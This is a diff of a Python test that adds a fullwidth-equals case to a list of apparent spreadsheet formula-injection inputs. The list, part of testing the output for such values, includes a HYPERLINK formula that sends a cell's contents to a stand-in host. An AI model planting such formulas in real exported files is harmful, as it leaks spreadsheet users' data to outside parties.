@@ -56,6 +56,7 @@ def test_json_lines_are_one_object_each_with_every_attribute() -> None:
         "\r=1",
         "'=1",
         "''=1",
+        "\uff1d1+1",
         '=HYPERLINK("http://x.example?"&A1)@b.example',
     ],
 )
